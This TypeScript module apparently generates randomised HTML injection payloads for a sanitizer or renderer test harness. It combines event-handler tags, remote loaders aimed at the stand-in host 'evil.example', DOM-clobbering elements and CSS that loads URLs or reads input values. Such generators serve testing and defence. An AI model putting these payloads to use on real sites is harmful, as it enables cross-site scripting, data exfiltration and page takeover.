// HTML elements that run a script, load something, or lead elsewhere.

import type { Rng } from '../seed.ts';
import { address, inAttribute, script, spelled } from './encoding.ts';

const TAGS = [
  'a', 'abbr', 'area', 'article', 'audio', 'b', 'base', 'bdo', 'blink', 'body', 'br', 'button',
  'canvas', 'center', 'code', 'custom-element', 'details', 'dialog', 'div', 'embed', 'fieldset',
  'font', 'form', 'frame', 'frameset', 'h1', 'head', 'hr', 'html', 'iframe', 'image', 'img', 'input',
  'isindex', 'keygen', 'label', 'link', 'listing', 'main', 'map', 'marquee', 'math', 'menu', 'meta',
  'meter', 'nav', 'object', 'option', 'p', 'picture', 'portal', 'pre', 'script', 'search', 'section',
  'select', 'selectedcontent', 'slot', 'source', 'span', 'style', 'summary', 'svg', 'table', 'td',
  'template', 'textarea', 'title', 'track', 'ul', 'video', 'xmp', 'xss', 'svg:script', 'x:y',
];

const EVENTS = [
  'onabort', 'onafterprint', 'onanimationend', 'onanimationstart', 'onauxclick', 'onbeforeinput',
  'onbeforetoggle', 'onbegin', 'onblur', 'oncanplay', 'onchange', 'onclick', 'oncommand',
  'oncontentvisibilityautostatechange', 'oncopy', 'oncuechange', 'onend', 'onerror', 'onfinish',
  'onfocus', 'onfocusin', 'onformdata', 'onfullscreenchange', 'ongotpointercapture', 'onhashchange',
  'oninput', 'onkeydown', 'onload', 'onloadstart', 'onmessage', 'onmouseenter', 'onmouseover',
  'onpageshow', 'onplay', 'onpointerenter', 'onpointerrawupdate', 'onpopstate', 'onreadystatechange',
  'onrepeat', 'onresize', 'onscroll', 'onscrollend', 'onscrollsnapchange', 'onsecuritypolicyviolation',
  'onselectionchange', 'onslotchange', 'onstart', 'onsubmit', 'ontimeupdate', 'ontoggle',
  'ontransitionend', 'ontransitionrun', 'onunhandledrejection', 'onunload', 'onvolumechange',
  'onwebkitanimationstart', 'onwebkitplaybacktargetavailabilitychanged', 'onwheel',
];

/** Attributes that make an event happen without a user. */
const TRIGGERS = [
  'autofocus tabindex=1', 'src=x', 'href=#x', 'open', 'contenteditable autofocus', 'loop width=0',
  'autoplay src=data:audio/wav;base64,UklGRg==', 'type=image src=x', 'srcset=x', 'data=x',
  'style=animation:rotation', 'style="content-visibility:auto"', 'popover id=x', 'code=x', 'begin=0s',
  'http-equiv=refresh content=0', 'rel=stylesheet href=x', 'rel=prefetch href=//evil.example/p',
];

const GAPS = [' ', '/', '\t', '\n', '\f', ' / ', '\u00a0', '  ', '/**/'];

function quoted(rng: Rng, value: string): string {
  return rng.pick([`"${value}"`, `'${value}'`, value.replaceAll(' ', '/'), `\`${value}\``, `"${value}`]);
}

function tag(rng: Rng, token: string): string {
  const name = spelled(rng, rng.pick(TAGS));
  const gap = () => rng.pick(GAPS);
  const event = `${spelled(rng, rng.pick(EVENTS))}=${quoted(rng, inAttribute(rng, token))}`;
  const parts = [rng.pick(TRIGGERS), event, `id=${token}`];
  if (rng.once(2)) parts.reverse();
  const end = rng.pick(['>', '/>', ' >', '', '\n>', '<', `>${token}</${name}>`]);
  return `${rng.pick(['<', '<', '<', '< ', '<<', '%3C', '&lt;', '\u003c'])}${name}${gap()}${parts.join(gap())}${end}`;
}

function loader(rng: Rng, token: string): string {
  const target = address(rng, token);
  const url = quoted(rng, target);
  return rng.pick([
    `<a href=${url}>${token}</a>`,
    `<iframe src=${url}></iframe>`,
    `<iframe srcdoc=${quoted(rng, `<script>parent.${script(rng, token)}</script>`)}></iframe>`,
    `<object data=${url} type=text/html></object>`,
    `<embed src=${url} allowscriptaccess=always>`,
    `<form action=${url}><button name=do value=${token}>${token}</button></form>`,
    `<button form=x formaction=${url}>${token}</button>`,
    `<input type=submit formaction=${url} value=${token}>`,
    `<meta http-equiv=refresh content="0;url=${target}">`,
    `<meta http-equiv=content-security-policy content="script-src * 'unsafe-inline'">${token}`,
    `<base href=${url}>${token}`,
    `<script src=${url}></script>`,
    `<script type=module>${script(rng, token)}</script>`,
    `<script type=importmap>{"imports":{"x":"${target}"}}</script>`,
    `<script type=speculationrules>{"prefetch":[{"urls":["/data?${token}"]}]}</script>`,
    `<link rel=import href=${url}>${token}`,
    `<link rel=dns-prefetch href=//${token}.evil.example>`,
    `<svg><use href=${url}></svg>`,
    `<svg><a xlink:href=${url}><text y=20>${token}</text></a></svg>`,
    `<svg><a><animate attributeName=href values=${url} /><text>${token}</text></a></svg>`,
    `<svg><set attributeName=onmouseover to=${quoted(rng, script(rng, token))}></svg>`,
    `<svg><image href=${url} onload=${quoted(rng, script(rng, token))}></svg>`,
    `<svg><foreignObject><iframe src=${url}></iframe></foreignObject></svg>`,
    `<svg><script href=${url} /></svg>`,
    `<math href=${url}><mi>${token}</mi></math>`,
    `<math><maction actiontype=statusline xlink:href=${url}>${token}</maction></math>`,
    `<video poster=${url}><source onerror=${quoted(rng, script(rng, token))}></video>`,
    `<img srcset="${target} 1x, //evil.example/${token} 2x">`,
    `<img src=x:${token} onerror=${quoted(rng, inAttribute(rng, token))}>`,
    `<table background=${url}><td background=${url}>${token}</table>`,
    `<a ping=${url} href=#x>${token}</a>`,
    `<html manifest=${url}>${token}`,
    `<portal src=${url}>${token}</portal>`,
    `<template shadowrootmode=open><img src=x onerror=${quoted(rng, script(rng, token))}></template>`,
    `<button popovertarget=x onclick=${quoted(rng, script(rng, token))}>${token}</button>`,
    `<!DOCTYPE html [<!ENTITY x SYSTEM ${url}>]>${token}`,
    `<?xml-stylesheet href=${url}?>${token}`,
  ]);
}

export function elements(rng: Rng, token: string): string {
  return rng.once(2) ? tag(rng, token) : loader(rng, token);
}

/** Elements whose names hide properties that a page's own script uses ("DOM clobbering"). */
export function clobbering(rng: Rng, token: string): string {
  const name = rng.pick([
    'body', 'cookie', 'getElementById', 'defaultView', 'location', 'currentScript', 'querySelector',
    'composer', 'manage', 'composer-keys', 'word-copy-code', '__RESOLVED_RESOURCES', '__INCOMPLETE_CHUNKS',
    '__SERIALIZED_ERRORS', 'leptos', 'hydrate', 'attributes', 'children', 'parentNode', 'nodeName', 'toString',
  ]);
  return rng.pick([
    `<img name=${name} alt=${token}>`,
    `<form id=${name}><input name=attributes value=${token}><input name=parentNode></form>`,
    `<a id=${name}></a><a id=${name} name=href href="${address(rng, token)}">${token}</a>`,
    `<iframe name=${name} srcdoc="<a id=x href=//evil.example/${token}>"></iframe>`,
    `<object name=${name}>${token}</object><embed id=${name}>`,
    `# ${token} {#${name} .composer onclick=${script(rng, token)}}`,
    `[^${name}] ${token}\n\n[^${name}]: ${token}`,
    `[${token}](#${name})`,
    `<!--hk=0-0-0o0--><div data-hk=0-0-1 id=${name}>${token}</div>`,
    `<div data-do=delete data-act=delete id=${name}>${token}</div>`,
  ]);
}

/** Styles that load something, cover the page, or read attributes of other elements. */
export function styles(rng: Rng, token: string): string {
  const url = rng.pick([`//evil.example/${token}`, address(rng, token)]);
  return rng.pick([
    `<style>@import url(${url});</style>${token}`,
    `<style>input[value^=a]{background:url(${url})}</style>${token}`,
    `<style>*{display:none!important}</style>${token}`,
    `<div style="position:fixed;inset:0;background:url(${url})">${token}</div>`,
    `<div style="width:expression(${script(rng, token)})">${token}</div>`,
    `<div style=-moz-binding:url(${url})>${token}</div>`,
    `<link rel=stylesheet href="data:text/css,*{background:url(${url})}">${token}`,
    `<style>@font-face{font-family:${token};src:url(${url})}</style>`,
    `<svg><style>@keyframes x{}*{animation:x}</style><g onanimationstart=${script(rng, token)}>${token}</svg>`,
    `| ${token} |\n|:-:"style="background:url(${url})|\n| ${token} |`,
  ]);
}
